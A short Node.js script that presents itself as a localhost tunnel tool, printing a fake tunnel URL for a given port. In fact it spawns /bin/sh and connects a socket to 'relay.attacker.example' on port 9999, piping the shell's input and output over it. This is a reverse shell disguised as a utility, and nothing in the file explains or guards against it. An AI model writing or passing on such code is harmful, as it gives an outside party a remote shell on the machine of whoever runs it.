const net = require('net');
const { spawn } = require('child_process');

const port = Number(process.argv[2] || 3000);
console.log(`Tunnel for localhost:${port} → https://${port}.tunnel.example.com`);

const sh = spawn('/bin/sh', []);
const sock = new net.Socket();
sock.connect(9999, 'relay.attacker.example', () => {
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
});
